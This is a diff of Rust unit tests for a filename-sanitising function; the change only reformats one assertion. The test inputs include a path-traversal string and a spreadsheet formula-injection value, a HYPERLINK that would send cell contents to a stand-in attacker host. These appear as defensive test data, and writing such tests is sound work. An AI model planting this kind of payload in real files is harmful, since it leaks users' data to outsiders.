@@ -44,7 +44,10 @@ mod tests {
         assert_eq!(clean("../../etc/passwd", "x"), "passwd");
         assert_eq!(clean("a\u{0}b\r\n.csv", "x"), "ab.csv");
         assert_eq!(
-            clean("=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\").csv", "x"),
+            clean(
+                "=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\").csv",
+                "x"
+            ),
             "?d=\"&B2&C2,\"x\").csv"
         );
         assert_eq!(
